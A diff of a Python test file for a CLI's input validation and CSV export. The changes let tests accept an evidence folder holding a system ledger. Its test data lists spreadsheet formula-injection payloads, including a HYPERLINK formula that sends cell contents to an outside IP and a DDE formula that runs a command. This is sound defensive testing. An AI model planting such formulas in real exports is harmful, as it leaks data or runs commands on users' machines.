@@ -11,11 +11,18 @@ from click.testing import CliRunner
 
 from workbench.cli import main
 from workbench.exceptions import InputError
+from workbench.pipeline.archive import ledger_entries
 from workbench.records.export import export_csv, neutralise
 from workbench.pipeline.run import run_process
 
 FORMULAS = ["=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"x\")", "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
             "=cmd|' /C calc'!A0"]
+
+
+def assert_nothing_archived(workspace) -> None:
+    """The evidence folder holds only the ledger of the fixture's systems (and the archive's lock)."""
+    assert sorted(p.name for p in workspace.evidence_dir.iterdir()) == [".lock", "ledger.jsonl"]
+    assert {e["kind"] for e in ledger_entries(workspace.evidence_dir)} == {"system"}
 
 
 def invoke(*args):
@@ -97,7 +104,7 @@ def test_megabyte_strings_are_refused_by_length(workspace, answers, path, limit)
         run_process(workspace, "risk-assessment", "credit-scoring", answers, assessor="amara")
     message = str(caught.value)
     assert str(limit) in message and len(message) < 2_000  # the value is shown cut short, not a megabyte
-    assert list(workspace.evidence_dir.iterdir()) == []
+    assert_nothing_archived(workspace)
 
 
 @pytest.mark.parametrize("change, field, rule", [
@@ -116,7 +123,7 @@ def test_wrong_types_name_the_field(workspace, answers, change, field, rule):
     with pytest.raises(InputError) as caught:
         run_process(workspace, "risk-assessment", "credit-scoring", answers, assessor="amara")
     assert any(p.field == field and rule in p.message for p in caught.value.problems), str(caught.value)
-    assert list(workspace.evidence_dir.iterdir()) == []
+    assert_nothing_archived(workspace)
 
 
 @pytest.mark.parametrize("content, suffix, says", [
@@ -136,7 +143,7 @@ def test_malformed_answer_files(workspace, tmp_path, content, suffix, says):
                     "-w", workspace.root)
     assert result.exit_code == 2, result.output
     assert says in result.output
-    assert list(workspace.evidence_dir.iterdir()) == []
+    assert_nothing_archived(workspace)
 
 
 def test_answers_that_are_not_a_regular_file(workspace, tmp_path):
@@ -193,7 +200,7 @@ def test_path_traversal_is_refused_and_nothing_is_written(workspace, tmp_path, a
     traversal = next(a for a in args if "../" in a)
     assert result.output.startswith(f"error: {refusal}") and f"(got {traversal!r})" in result.output, result.output
     assert sorted(p for p in tmp_path.rglob("*")) == before
-    assert not (workspace.evidence_dir / "ledger.jsonl").exists()
+    assert {e["kind"] for e in ledger_entries(workspace.evidence_dir)} == {"system"}
 
 
 def test_a_workspace_path_that_is_not_a_workspace(tmp_path):
